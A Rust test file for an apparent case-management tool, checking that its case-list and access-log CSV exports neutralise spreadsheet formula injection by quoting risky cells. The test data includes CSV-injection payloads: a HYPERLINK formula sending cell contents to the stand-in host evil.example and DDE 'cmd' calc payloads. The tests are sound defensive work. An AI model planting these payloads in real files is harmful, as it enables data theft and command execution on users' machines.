//! CSV files the product writes open in a spreadsheet without running anything (CSV
//! injection): every cell that starts like a formula is read back with a quote in front.

use std::process::Command;

use labordesk::export::CaseListExport;
use labordesk::store::accounts::AccessLogFilter;

use crate::common::*;

/// Cells a hostile or careless user might type, each starting as a spreadsheet formula would.
const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"열기\")",
    "+82-10-1234-5678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// Every cell of a CSV file, read back by the csv crate (a UTF-8 BOM skipped).
fn cells(path: &std::path::Path) -> Vec<Vec<String>> {
    let bytes = std::fs::read(path).unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn starts_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// The cells that could run in a spreadsheet: none may, except bare negative numbers.
fn risky(rows: &[Vec<String>]) -> Vec<String> {
    rows.iter()
        .flatten()
        .filter(|c| starts_like_a_formula(c) && c.parse::<f64>().is_err())
        .cloned()
        .collect()
}

/// A file store with one case per formula, each typed as the counselor's name (the case
/// list's one free-text column: it carries no client name or summary).
fn store_with_formula_counselors(dir: &tempfile::TempDir) -> std::path::PathBuf {
    let (mut s, path) = file_store(dir);
    for (i, formula) in FORMULAS.iter().enumerate() {
        s.create_case(&labordesk::CaseInput {
            counselor: Some(formula.to_string()),
            summary: Some(formula.to_string()),
            client_name: Some(formula.to_string()),
            ..intake(&format!("2024-10-0{}", i + 1), "wage_arrears")
        })
        .unwrap();
    }
    path
}

fn assert_every_formula_neutralised(rows: &[Vec<String>]) {
    assert_eq!(risky(rows), Vec::<String>::new(), "cells that would run");
    let counselors: Vec<&str> = rows[1..].iter().map(|r| r[2].as_str()).collect();
    for formula in FORMULAS {
        // The form trims a leading tab or carriage return; what is left starts with '='.
        let typed = formula.trim();
        assert!(
            counselors.contains(&format!("'{typed}").as_str()),
            "{typed:?} kept, with a quote in front: {counselors:?}"
        );
    }
}

#[test]
fn the_case_list_csv_from_the_store_quotes_every_cell_that_starts_like_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let path = store_with_formula_counselors(&dir);
    let s = labordesk::Store::open(&path).unwrap();
    let out = dir.path().join("cases.csv");
    assert_eq!(
        s.export_case_list(&CaseListExport::default(), &out)
            .unwrap(),
        6
    );
    assert_every_formula_neutralised(&cells(&out));
}

#[test]
fn the_case_list_csv_from_the_command_line_quotes_every_cell_that_starts_like_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let path = store_with_formula_counselors(&dir);
    let out = dir.path().join("cases.csv");
    let run = Command::new(env!("CARGO_BIN_EXE_labordesk"))
        .arg("--db")
        .arg(&path)
        .args(["cases", "export"])
        .arg(&out)
        .env_remove("LABORDESK_DB")
        .output()
        .unwrap();
    assert!(
        run.status.success(),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    assert_every_formula_neutralised(&cells(&out));
}

#[test]
fn the_access_log_csv_quotes_every_cell_that_starts_like_a_formula() {
    let dir = tempfile::tempdir().unwrap();
    let (s, path) = file_store(&dir);
    drop(s);
    // Entries as a hostile writer of the log would leave them: the export must not trust them.
    let raw = rusqlite::Connection::open(&path).unwrap();
    for formula in FORMULAS {
        raw.execute(
            "INSERT INTO access_log (at, username, action, record_id, detail)
             VALUES ('2024-11-30T01:00:00.000Z', ?1, 'view', ?1, ?1)",
            [formula],
        )
        .unwrap();
    }
    drop(raw);
    let s = labordesk::Store::open(&path).unwrap();
    let out = dir.path().join("log.csv");
    s.export_access_log(&AccessLogFilter::default(), &out)
        .unwrap();
    let rows = cells(&out);
    assert_eq!(risky(&rows), Vec::<String>::new(), "cells that would run");
    for formula in FORMULAS {
        let row = rows
            .iter()
            .find(|r| r[2] == format!("'{formula}"))
            .unwrap_or_else(|| panic!("{formula:?} kept with a quote in front: {rows:?}"));
        assert_eq!(row[5], row[2], "the record id too");
        assert_eq!(row[6], row[2], "the detail too");
    }
}
